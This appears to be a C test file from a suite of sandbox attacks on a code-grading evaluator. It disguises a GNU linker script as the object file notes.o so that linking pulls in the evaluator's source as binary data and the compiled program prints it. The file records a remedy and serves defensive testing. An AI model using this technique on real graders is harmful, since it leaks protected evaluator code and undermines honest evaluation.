// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, by a file that is no source at all.
 * Means: what the linker does not know as an object it reads as a script. The second file handed in
 *        is called notes.o, and says: link that file as binary data. The program prints it.
 */
#include "attacks/compile-phase/compile.h"

static const char source[] =
	"#include <stdio.h>\n"
	"extern char loot[] __asm__(\"_binary__var_task_evaluator_py_start\");\n"
	"extern char end[] __asm__(\"_binary__var_task_evaluator_py_end\");\n"
	"int main(void) { return fwrite(loot, 1, end - loot, stdout) == 0; }\n";

static const char script[] = "TARGET(binary)\n"
			     "INPUT(" EVALUATOR ")\n"
			     "TARGET(elf64-x86-64)\n"; /* for the objects that follow */

static enum claim run(const struct brief *b)
{
	if (!enter_folder(b) || !hand_in("answer.c", source) || !hand_in("notes.o", script))
		return failed("hand in");
	attempting(b);
	if (RUN(GCC, "answer.c", "notes.o", "-o", "answer"))
		return denied("gcc");
	return RUN("./answer") ? denied("the compiled program") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a file that the linker may read reaches the student",
	.means = "an object file that is a linker script: INPUT() of the file, as binary data",
	.oracle = "secret:task",
	.needs = NEED_CC | NEED_X86_64,
	.attack_id = "T1005, CWE-829",
	.remedy = "the linker inside the same walls as the program; take sources only",
	.refs = (const char *const[]){ "ld(1), implicit linker scripts", NULL },
	.run = run,
};
